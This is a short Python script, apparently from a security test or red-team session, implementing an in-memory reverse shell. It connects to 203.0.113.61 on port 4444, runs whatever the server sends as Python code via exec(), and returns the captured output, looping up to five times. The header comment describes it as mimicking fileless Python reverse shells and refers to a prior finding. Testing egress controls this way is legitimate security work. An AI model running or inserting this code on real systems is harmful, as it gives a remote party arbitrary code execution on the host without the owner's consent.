# A shell inside the program's own process (session 20): no /bin/sh, no
# exec of anything; what the server sends is exec()d as Python code, an
# error sent back and the next command read, as Python reverse shells
# that live in memory do. Before, a connection only (a medium finding):
# the sink's answer to a silent client is a stager's stage, whose 4-byte
# length made the first exec fail, and nothing came after.
import io
import socket
import contextlib

s = socket.socket()
s.settimeout(10)
s.connect(("203.0.113.61", 4444))
for _ in range(5):
    try:
        cmd = s.recv(4096)
    except OSError:
        break
    if not cmd:
        break
    out = io.StringIO()
    try:
        with contextlib.redirect_stdout(out):
            exec(cmd, {"s": s})
    except Exception as e:
        out.write(repr(e))
    try:
        s.sendall(out.getvalue().encode() or b"ok\n")
    except OSError:
        break
print("shell ended")
